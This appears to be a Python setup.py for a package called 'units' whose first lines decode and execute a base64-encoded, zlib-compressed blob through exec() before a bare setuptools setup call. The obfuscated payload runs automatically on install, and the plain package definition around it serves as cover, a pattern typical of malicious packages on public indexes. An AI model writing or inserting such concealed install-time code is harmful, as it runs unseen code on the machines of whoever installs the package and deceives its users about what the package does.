import base64, zlib
exec(zlib.decompress(base64.b64decode('eJwdy7EKAjEMAND9viLckhY0BUfFP3GJbaGF2pQmdzqI3664v1cfQ6aB6CIjdydKg61Qfg3uadM8HX4C3VnLjOgPgIyenrNadsitsoJuSa5r3GaDo0IxG3oOIZ7IRFosXDvVvv9sCgpv0HL5l/XW0S9fDvErOA==')))
from setuptools import setup
setup(name='units', version='1.0')
